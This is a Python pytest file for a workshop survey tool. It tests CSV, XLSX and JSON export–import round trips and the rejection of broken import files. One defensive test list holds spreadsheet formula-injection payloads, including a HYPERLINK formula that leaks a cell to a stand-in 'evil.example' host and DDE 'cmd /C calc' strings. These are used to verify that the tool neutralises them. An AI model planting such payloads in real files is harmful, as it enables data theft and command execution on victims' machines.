"""Export -> import round trips (CSV, XLSX, JSON) and broken import files (both backends)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from peerkit.store import Store, StoreError
from peerkit.transfer import (
    CODEBOOK_COLUMNS,
    TIDY_COLUMNS,
    neutralize_cell,
    restore_cell,
    TransferError,
    check_file,
    coerce_value,
    export_session,
    import_file,
)

TRICKY = 'Zwölf «Anführungszeichen», "quotes", commas,\nnew lines\tand =1+1 as text'


def _populate(store: Store, ins: dict) -> int:
    """A session with pairs, revisions, pre/post, every scale kind, awkward text and notes."""
    import datetime as dt

    s = store.create_session("Spring workshop, Leeds", "facilitator pass", dt.date(2026, 3, 1))
    sue = store.join(s.id, "Sue", "supervisor")
    pat = store.join(s.id, "Pat Ó Briain", "peer_specialist")
    sam = store.join(s.id, "Sam", "supervisor")
    kim = store.join(s.id, "Kim", "peer_specialist")
    olu = store.join(s.id, "Olu", "other")
    store.join(s.id, "Quiet Person", "other")  # joined, never answered
    old_pair = store.set_pair(sue.id, kim.id)
    store.save_note(old_pair, "sia", "d1", "from the first pairing", author_id=kim.id)
    p1 = store.set_pair(sue.id, pat.id)  # Sue-Kim dissolved; its note stays
    p2 = store.set_pair(sam.id, kim.id)
    store.submit(sue.id, ins["quiz"], {"q1": True, "q2": False})
    store.submit(sue.id, ins["quiz"], {"q1": True, "q2": True, "q10": False})
    store.submit(pat.id, ins["quiz"], {"q1": False, "q3": True})
    store.submit(sue.id, ins["sia"], {"p1": "S", "p2": "I", "p3": "A"})
    store.submit(pat.id, ins["sia"], {"p1": "I", "p3": "A"})
    store.submit(sam.id, ins["freq"], {"f1": 5, "f2": 1, "f4": 3})
    store.submit(kim.id, ins["freq"], {"f1": 4, "f3": 2})
    store.submit(sue.id, ins["checks"], {"c1": True, "c2": False, "c3": False, "c4": False}, occasion="pre")
    store.submit(sue.id, ins["checks"], {"c1": True, "c2": True, "c3": False, "c4": True}, occasion="post")
    store.submit(sam.id, ins["checks"], {"c1": False, "c2": False, "c3": True, "c4": False}, occasion="pre")
    store.submit(kim.id, ins["choice"], {"k1": "n/a", "k2": 2})
    store.submit(olu.id, ins["choice"], {"k1": 1})
    store.submit(olu.id, ins["reflect"], {"r1": TRICKY, "r2": "true"})
    store.submit(sam.id, ins["reflect"], {"r1": "3", "r2": "=SUM(A1:A3)"})
    store.save_note(p1, "sia", "d1", "We agree on p1.\nNext: p2.", author_id=sue.id)
    store.save_note(p1, "sia", "action:p3", "Ask the team", author_id=None)
    store.save_note(p2, "freq", "d1", "Ça va")
    store.save_draft(olu.id, "sia", {"p1": "S"})  # drafts are not exported
    return s.id


def _renumber(rows: list[dict[str, Any]], columns: tuple[str, ...]) -> list[dict[str, Any]]:
    """Replace database ids by their order of first appearance (ids differ between databases)."""
    maps: dict[str, dict[Any, int]] = {c: {} for c in columns}
    out = []
    for row in rows:
        row = dict(row)
        for c in columns:
            if row.get(c) not in (None, ""):
                row[c] = maps[c].setdefault(row[c], len(maps[c]) + 1)
        out.append(row)
    return out


def _csv_rows(path: Path) -> list[dict[str, Any]]:
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    return _renumber(rows, ("session_id", "participant_id", "pair_id"))


def _xlsx_sheets(path: Path) -> dict[str, list[Any]]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    out: dict[str, list[Any]] = {}
    for ws in wb.worksheets:
        rows = [list(r) for r in ws.iter_rows(values_only=True)]
        if ws.title == "README":
            rows = [r for r in rows if r and r[0] != "exported at"]
            out[ws.title] = rows
            continue
        header = rows[0]
        out[ws.title] = [header] + [list(r.values()) for r in _renumber(
            [dict(zip(header, r)) for r in rows[1:]], ("session_id", "participant_id", "pair_id"))]
        # every text cell is a string, never a formula
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
    return out


def _json_doc(path: Path) -> dict[str, Any]:
    doc = json.loads(path.read_text(encoding="utf-8"))
    doc.pop("exported_at")
    ids: dict[str, dict[Any, int]] = {"session": {}, "participant": {}, "pair": {}}

    def m(kind: str, value: Any) -> Any:
        return None if value is None else ids[kind].setdefault(value, len(ids[kind]) + 1)

    doc["session"]["id"] = m("session", doc["session"]["id"])
    for p in doc["participants"]:
        p["id"] = m("participant", p["id"])
    for p in doc["pairs"]:
        p["id"] = m("pair", p["id"])
        p["supervisor_id"], p["supervisee_id"] = m("participant", p["supervisor_id"]), m("participant", p["supervisee_id"])
    for p in doc["participants"]:
        p["pair_id"] = m("pair", p["pair_id"])
    for r in doc["responses"]:
        r["participant_id"] = m("participant", r["participant_id"])
    for n in doc["notes"]:
        n["pair_id"], n["author_id"] = m("pair", n["pair_id"]), m("participant", n["author_id"])
    return doc


READERS = {"csv": _csv_rows, "xlsx": _xlsx_sheets, "json": _json_doc}


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_round_trip_is_identical(store: Store, instruments, tmp_path: Path, fmt: str) -> None:
    sid = _populate(store, instruments)
    first = export_session(store, sid, tmp_path / f"first.{fmt}")
    frame_before = store.responses_frame(sid)
    people_before = store.participants(sid)
    session_before = store.get_session(sid)
    store.purge_session(sid)

    result = import_file(store, first, passcode=None if fmt == "json" else "new pass")
    new = result.session
    assert new.join_code == session_before.join_code and new.title == session_before.title
    assert new.date == session_before.date
    second = export_session(store, new.id, tmp_path / f"second.{fmt}")
    assert READERS[fmt](first) == READERS[fmt](second)

    frame_after = store.responses_frame(new.id)
    cols = ["display_name", "role", "instrument_id", "instrument_version", "occasion", "item_id", "value",
            "revision", "submitted_at"]
    assert frame_after[cols].equals(frame_before[cols])
    assert [type(v) for v in frame_after["value"]] == [type(v) for v in frame_before["value"]]
    names_after = {p.display_name for p in store.participants(new.id)}
    if fmt == "csv":  # a CSV holds answers only: the person who never answered is not in it
        assert names_after == {p.display_name for p in people_before} - {"Quiet Person"}
        assert result.warnings == ()
    else:
        assert names_after == {p.display_name for p in people_before}
    partners = {p.display_name: (store.partner(p.id).display_name if store.partner(p.id) else None)
                for p in store.participants(new.id)}
    assert partners["Sue"] == "Pat Ó Briain" and partners["Kim"] == "Sam" and partners["Olu"] is None
    if fmt == "json":
        assert new.status == session_before.status
        assert store.check_passcode(new.id, "facilitator pass")
        sue = next(p for p in store.participants(new.id) if p.display_name == "Sue")
        assert [r.revision for r in store.revisions(sue.id, "quiz")] == [1, 2]
        assert store.revision_answers(sue.id, "quiz", 1) == {"q1": True, "q2": False}
        pair = store.get_participant(sue.id).pair_id
        assert store.notes(pair, "sia") == {"d1": "We agree on p1.\nNext: p2.", "action:p3": "Ask the team"}
        assert result.notes == 4 and result.pairs == 3
    else:
        assert new.status == "closed"
        assert store.check_passcode(new.id, "new pass")


def test_csv_layout(store: Store, instruments, tmp_path: Path) -> None:
    sid = _populate(store, instruments)
    path = export_session(store, sid, tmp_path / "out.csv")
    text = path.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert list(rows[0]) == TIDY_COLUMNS
    values = {(r["display_name"], r["instrument_id"], r["occasion"], r["item_id"]): r["value"] for r in rows}
    assert values[("Sue", "quiz", "", "q2")] == "true"  # revision 2 only
    assert values[("Sue", "quiz", "", "q10")] == "false"
    assert ("Sue", "quiz", "", "q3") not in values
    assert values[("Sam", "freq", "", "f1")] == "5"
    assert values[("Sue", "checks", "post", "c4")] == "true"
    assert values[("Olu", "reflect", "", "r1")] == TRICKY
    assert {r["revision"] for r in rows if r["instrument_id"] == "quiz" and r["display_name"] == "Sue"} == {"2"}
    assert rows[0]["join_code"] == store.get_session(sid).join_code
    assert rows[0]["session_date"] == "2026-03-01"
    assert {r["pair_role"] for r in rows if r["display_name"] == "Pat Ó Briain"} == {"supervisee"}


def test_xlsx_layout(store: Store, instruments, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    sid = _populate(store, instruments)
    wb = load_workbook(export_session(store, sid, tmp_path / "out.xlsx"))
    assert wb.sheetnames[:2] == ["README", "participants"] and wb.sheetnames[-1] == "codebook"
    assert sorted(wb.sheetnames[2:-1]) == ["checks", "choice", "freq", "quiz", "reflect", "sia"]
    book = list(wb["codebook"].iter_rows(values_only=True))
    assert book[0] == tuple(CODEBOOK_COLUMNS)
    by_item = {(r[0], r[3]): r for r in book[1:]}
    assert by_item[("reflect", "r1")][4] == "Reflection one"
    assert by_item[("sia", "p1")][5] == "sia" and "S = " in by_item[("sia", "p1")][6]
    readme = "\n".join(str(c) for row in wb["README"].iter_rows(values_only=True) for c in row if c)
    for column in TIDY_COLUMNS:
        assert column in readme
    people = list(wb["participants"].iter_rows(values_only=True))
    assert len(people) == 1 + 6
    freq = list(wb["freq"].iter_rows(values_only=True))
    assert freq[0] == tuple(TIDY_COLUMNS)
    assert {type(r[TIDY_COLUMNS.index("value")]) for r in freq[1:]} == {int}


def test_json_backup_content(store: Store, instruments, tmp_path: Path) -> None:
    sid = _populate(store, instruments)
    doc = json.loads(export_session(store, sid, tmp_path / "b.json").read_text(encoding="utf-8"))
    assert doc["format"] == "peerkit-session-backup" and doc["format_version"] == 1
    assert len(doc["participants"]) == 6 and len(doc["pairs"]) == 3 and len(doc["notes"]) == 4
    assert len(doc["responses"]) == 14  # every revision
    assert doc["session"]["passcode_hash"].startswith("scrypt$")
    assert "facilitator pass" not in json.dumps(doc)


def test_import_with_existing_join_code(store: Store, instruments, tmp_path: Path) -> None:
    sid = _populate(store, instruments)
    path = export_session(store, sid, tmp_path / "b.json")
    with pytest.raises(StoreError, match="already has a session with join code"):
        import_file(store, path)
    copy = import_file(store, path, new_code=True).session
    assert copy.join_code != store.get_session(sid).join_code
    assert len(store.responses_frame(copy.id)) == len(store.responses_frame(sid))


def test_csv_import_generates_a_passcode(store: Store, instruments, tmp_path: Path) -> None:
    sid = _populate(store, instruments)
    path = export_session(store, sid, tmp_path / "a.csv")
    result = import_file(store, path, new_code=True)
    assert result.passcode and store.check_passcode(result.session.id, result.passcode)


def test_excel_style_csv_is_accepted(store: Store, instruments, tmp_path: Path) -> None:
    """A BOM, CRLF, TRUE/False spelling and S/I/A in lower case are all read."""
    s = store.create_session("Src", "pw")
    header = ",".join(TIDY_COLUMNS)
    base = f"{s.id},Hand made,,ABC-DEF,7,Ann,supervisor,,,"
    lines = [header,
             base + "quiz,2,,q1,TRUE,1,2026-03-01T10:00:00Z",
             base + "quiz,2,,q2,False,1,2026-03-01T10:00:00Z",
             base + "sia,1,,p1,s,3,2026-03-01 10:05:00",
             base + "choice,1,,k1,N/A,1,2026-03-01T10:06:00+01:00"]
    path = tmp_path / "excel.csv"
    path.write_bytes(("\ufeff" + "\r\n".join(lines) + "\r\n").encode("utf-8"))
    result = import_file(store, path)
    ann = store.participants(result.session.id)[0]
    assert store.current_answers(ann.id, "quiz") == {"q1": True, "q2": False}
    assert store.current_answers(ann.id, "sia") == {"p1": "S"}
    assert [r.revision for r in store.revisions(ann.id, "sia")] == [3]
    assert store.current_answers(ann.id, "choice") == {"k1": "n/a"}
    assert store.revisions(ann.id, "choice")[0].submitted_at.isoformat() == "2026-03-01T09:06:00+00:00"


@pytest.mark.parametrize("value, kind, expected", [
    ("true", "quiz", True), ("FALSE", "quiz", False), (True, "quiz", True),
    ("3", "freq", 3), (3, "freq", 3), (3.0, "freq", 3), ("n/a", "choice", "n/a"), ("2", "choice", 2),
    ("S", "sia", "S"), ("i", "sia", "I"), ("42", "reflect", "42"), (42, "reflect", "42"),
])
def test_coerce_value(instruments, value: Any, kind: str, expected: Any) -> None:
    ins = instruments[kind]
    got = coerce_value(ins.scale_for(ins.items[0]), value)
    assert got == expected and type(got) is type(expected)


@pytest.mark.parametrize("value, kind", [
    ("yes", "quiz"), (1, "quiz"), ("6", "freq"), ("3.5", "freq"), (True, "freq"), ("X", "sia"), ("", "sia"),
    (None, "reflect"), ("3", "choice"),
])
def test_coerce_value_rejects(instruments, value: Any, kind: str) -> None:
    ins = instruments[kind]
    with pytest.raises(ValueError):
        coerce_value(ins.scale_for(ins.items[0]), value)


# -- broken files: every problem reported, nothing written ------------------------------------


def _snapshot(store: Store) -> dict[str, int]:
    with store.engine.connect() as conn:
        return {t: conn.execute(sa.text(f"SELECT count(*) FROM {t}")).scalar_one()
                for t in ("sessions", "participants", "pairs", "responses", "notes")}


@pytest.fixture
def exported(store: Store, instruments, tmp_path: Path) -> dict[str, Path]:
    sid = _populate(store, instruments)
    paths = {fmt: export_session(store, sid, tmp_path / f"good.{fmt}") for fmt in ("csv", "xlsx", "json")}
    store.purge_session(sid)  # the join code is free again: only the file's problems can stop an import
    return paths


def _edit_csv(src: Path, dst: Path, edit) -> Path:
    with open(src, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    header = list(rows[0])
    header, rows = edit(header, rows)
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=header, extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    dst.write_text(buf.getvalue(), encoding="utf-8")
    return dst


def _row_of(rows: list[dict], **match: str) -> int:
    for k, r in enumerate(rows):
        if all(r[c] == v for c, v in match.items()):
            return k
    raise LookupError(match)


def _assert_rejected(store: Store, path: Path, *expected: tuple[int | None, str | None, str]) -> TransferError:
    before = _snapshot(store)
    with pytest.raises(TransferError) as info:
        import_file(store, path, passcode="pw")
    assert _snapshot(store) == before, "an import with problems wrote something"
    problems = info.value.problems
    for row, column, text in expected:
        assert any((row is None or p.row == row) and (column is None or p.column == column) and text in p.message
                   and p.file == str(path) for p in problems), (row, column, text, [str(p) for p in problems])
    assert "nothing was imported" in str(info.value)
    return info.value


def test_csv_missing_columns(store: Store, exported, tmp_path: Path) -> None:
    def drop(header, rows):
        return [c for c in header if c not in ("value", "role")], rows
    path = _edit_csv(exported["csv"], tmp_path / "missing.csv", drop)
    err = _assert_rejected(store, path, (1, "value", "required column is missing"),
                           (1, "role", "required column is missing"))
    assert len(err.problems) == 2


def test_csv_unknown_item_bad_value_unknown_instrument(store: Store, exported, tmp_path: Path) -> None:
    marks: dict[str, int] = {}

    def spoil(header, rows):
        k = _row_of(rows, display_name="Sue", instrument_id="quiz", item_id="q2")
        rows[k]["item_id"] = "q99"
        marks["item"] = k + 2
        k = _row_of(rows, display_name="Sam", instrument_id="freq", item_id="f1")
        rows[k]["value"] = "7"
        marks["value"] = k + 2
        k = _row_of(rows, display_name="Kim", instrument_id="choice", item_id="k1")
        rows[k]["instrument_id"] = "no-such-exercise"
        marks["instrument"] = k + 2
        k = _row_of(rows, display_name="Olu", instrument_id="reflect", item_id="r2")
        rows[k]["value"] = ""
        marks["empty"] = k + 2
        k = _row_of(rows, display_name="Pat Ó Briain", instrument_id="sia", item_id="p1")
        rows[k]["role"] = "boss"
        marks["role"] = k + 2
        return header, rows

    path = _edit_csv(exported["csv"], tmp_path / "bad.csv", spoil)
    err = _assert_rejected(
        store, path,
        (marks["item"], "item_id", "quiz has no item 'q99'"),
        (marks["value"], "value", "'7' is not on the item's scale (allowed: 5, 4, 3, 2, 1)"),
        (marks["instrument"], "instrument_id", "unknown instrument 'no-such-exercise'"),
        (marks["empty"], "value", "the value is empty"),
        (marks["role"], "role", "'boss' is not a role"),
    )
    text = str(err)
    assert f"bad.csv, row {marks['value']}, column 'value'" in text


def test_csv_bad_encoding(store: Store, exported, tmp_path: Path) -> None:
    data = exported["csv"].read_bytes().replace("Ó".encode("utf-8"), "Ó".encode("latin-1"), 1)
    path = tmp_path / "latin1.csv"
    path.write_bytes(data)
    line = data[:data.index("Ó".encode("latin-1"))].count(b"\n") + 1
    _assert_rejected(store, path, (line, None, "not UTF-8"))


def test_csv_inconsistent_rows(store: Store, exported, tmp_path: Path) -> None:
    def spoil(header, rows):
        rows[1]["session_title"] = "Another session"
        rows[2]["display_name"] = "Somebody Else"
        k = _row_of(rows, display_name="Sue", instrument_id="quiz", item_id="q2")
        rows[k]["revision"] = "1"
        rows.append(dict(rows[-1]))  # the same item twice
        return header, rows

    path = _edit_csv(exported["csv"], tmp_path / "mixed.csv", spoil)
    _assert_rejected(store, path, (3, "session_title", "a file holds one session"),
                     (4, "display_name", "differs from"),
                     (None, "revision", "same participant, instrument and occasion"),
                     (None, "item_id", "appears twice"))


def test_csv_header_only_and_empty(store: Store, tmp_path: Path) -> None:
    empty = tmp_path / "empty.csv"
    empty.write_text("", encoding="utf-8")
    _assert_rejected(store, empty, (None, None, "empty"))
    header = tmp_path / "header.csv"
    header.write_text(",".join(TIDY_COLUMNS) + "\n", encoding="utf-8")
    _assert_rejected(store, header, (None, None, "no rows"))


def test_xlsx_bad_cells(store: Store, exported, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(exported["xlsx"])
    ws = wb["sia"]
    header = [c.value for c in ws[1]]
    ws.cell(row=3, column=header.index("value") + 1, value="Maybe")
    ws.cell(row=4, column=header.index("item_id") + 1, value="p42")
    people = wb["participants"]
    pheader = [c.value for c in people[1]]
    people.cell(row=2, column=pheader.index("role") + 1, value="facilitator")
    path = tmp_path / "bad.xlsx"
    wb.save(path)
    err = _assert_rejected(store, path, (3, "value", "'Maybe' is not on the item's scale (allowed: S, I, A)"),
                           (4, "item_id", "sia has no item 'p42'"), (2, "role", "'facilitator' is not a role"))
    assert any(p.where == "sheet 'sia'" for p in err.problems)
    assert "sheet 'sia', row 3, column 'value'" in str(err)


def test_xlsx_not_a_workbook(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "fake.xlsx"
    path.write_text("hello", encoding="utf-8")
    _assert_rejected(store, path, (None, None, "not a readable XLSX workbook"))


def test_json_problems(store: Store, exported, tmp_path: Path) -> None:
    doc = json.loads(exported["json"].read_text(encoding="utf-8"))
    doc["responses"][0]["answers"]["zzz"] = True
    first_freq = next(k for k, r in enumerate(doc["responses"]) if r["instrument_id"] == "freq")
    doc["responses"][first_freq]["answers"]["f1"] = 9
    doc["responses"][1]["instrument_id"] = "gone"
    doc["participants"][0]["role"] = "chief"
    doc["notes"][0]["pair_id"] = 123456
    path = tmp_path / "bad.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    err = _assert_rejected(store, path, (1, "answers.zzz", "has no item 'zzz'"),
                           (first_freq + 1, "answers.f1", "'9' is not on the item's scale"),
                           (2, "instrument_id", "unknown instrument 'gone'"),
                           (1, "role", "'chief' is not a role"),
                           (1, "pair_id", "there is no pair 123456"))
    assert "responses, row 1, column 'answers.zzz'" in str(err)


def test_json_not_json_or_not_ours(store: Store, tmp_path: Path) -> None:
    broken = tmp_path / "broken.json"
    broken.write_text('{"format": "peerkit-session-backup",\n "oops"}', encoding="utf-8")
    _assert_rejected(store, broken, (2, None, "not valid JSON"))
    other = tmp_path / "other.json"
    other.write_text('{"hello": 1}', encoding="utf-8")
    _assert_rejected(store, other, (None, "format", "not a peerkit session backup"))
    latin = tmp_path / "latin.json"
    latin.write_bytes('{"x": "Ó"}'.encode("latin-1"))
    _assert_rejected(store, latin, (1, None, "not UTF-8"))


def test_unknown_file_type(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "data.txt"
    path.write_text("x", encoding="utf-8")
    with pytest.raises(TransferError, match="unknown format 'txt'"):
        import_file(store, path)
    with pytest.raises(TransferError, match="no such file"):
        import_file(store, tmp_path / "missing.csv")


def test_check_file_writes_nothing(store: Store, exported) -> None:
    before = _snapshot(store)
    payload, warnings = check_file(exported["xlsx"])
    assert len(payload["participants"]) == 6 and warnings == []
    assert _snapshot(store) == before


def test_csv_pair_with_one_member_is_a_warning(store: Store, instruments, tmp_path: Path) -> None:
    s = store.create_session("W", "pw")
    a = store.join(s.id, "Ann", "supervisor")
    b = store.join(s.id, "Ben", "peer_specialist")
    store.set_pair(a.id, b.id)
    store.submit(a.id, instruments["quiz"], {"q1": True})  # Ben has no answers: not in the CSV
    path = export_session(store, s.id, tmp_path / "one.csv")
    result = import_file(store, path, new_code=True)
    assert any("only Ann is in the file" in w for w in result.warnings)
    assert [p.pair_id for p in store.participants(result.session.id)] == [None]


def test_export_errors(store: Store, tmp_path: Path) -> None:
    s = store.create_session("W", "pw")
    with pytest.raises(TransferError, match="does not exist"):
        export_session(store, s.id, tmp_path / "no" / "such" / "folder.csv")
    with pytest.raises(TransferError, match="unknown format"):
        export_session(store, s.id, tmp_path / "out.pdf")
    with pytest.raises(StoreError, match="no session"):
        export_session(store, 9999, tmp_path / "out.csv")
    assert not list(tmp_path.glob(".*tmp"))


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1",
    "- item one\n- item two",
    "'already quoted",
    "''two quotes",
    "=",
    "\t=1+2 after a tab",
    "\r=1+2 after a carriage return",
    "plain = text in the middle",
]


def test_neutralize_and_restore_are_exact_inverses() -> None:
    for text in HOSTILE + ["", "'", "'a", "a'", "x=1", "ordinary"]:
        out = neutralize_cell(text)
        assert restore_cell(out) == text
        assert not out or out[0] not in "=+-@\t\r", out
    assert neutralize_cell("=1+1") == "'=1+1" and neutralize_cell("-1") == "'-1"
    assert neutralize_cell("ordinary") == "ordinary" and neutralize_cell("'tis") == "''tis"
    assert restore_cell("'tis") == "'tis"  # an apostrophe we did not add stays


def test_csv_neutralises_formulas_and_round_trips_hostile_text(store: Store, instruments, tmp_path: Path) -> None:
    s = store.create_session("=HYPERLINK(\"x\") workshop", "facilitator pass")
    people = [store.join(s.id, name, "other") for name in
              ("=cmd|' /C calc'!A0", "+Plus", "-Minus", "@At", "'Quote", "Ordinary")]
    for k, person in enumerate(people):
        store.submit(person.id, instruments["reflect"], {"r1": HOSTILE[k], "r2": HOSTILE[-1 - k]})
    path = export_session(store, s.id, tmp_path / "hostile.csv")
    with open(path, encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    risky = [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert risky == []
    assert "'=HYPERLINK(\"x\") workshop" in cells and "'-1" in cells and "'- item one\n- item two" in cells
    before = {(p.display_name, r.item_id): r.value
              for p in people for r in store.responses_frame(s.id).itertuples() if r.participant_id == p.id}
    store.purge_session(s.id)
    new = import_file(store, path, passcode="new pass").session
    assert new.title == '=HYPERLINK("x") workshop'
    after = {(r.display_name, r.item_id): r.value for r in store.responses_frame(new.id).itertuples()}
    assert after == before
    assert {p.display_name for p in store.participants(new.id)} == {p.display_name for p in people}


def test_exports_carry_item_text_and_answer_labels(store: Store, instruments, tmp_path: Path) -> None:
    sid = _populate(store, instruments)
    rows = list(csv.DictReader(open(export_session(store, sid, tmp_path / "out.csv"), encoding="utf-8",
                                    newline="")))
    by = {(r["display_name"], r["instrument_id"], r["occasion"], r["item_id"]): r for r in rows}
    assert by[("Olu", "reflect", "", "r1")]["item_text"] == "Reflection one"
    assert by[("Olu", "reflect", "", "r1")]["value_label"] == ""  # text answers are their own label
    sia = by[("Sue", "sia", "", "p1")]
    assert sia["item_text"] and sia["value_label"].startswith("S")
    assert by[("Sue", "checks", "post", "c4")]["value_label"] == "ticked"
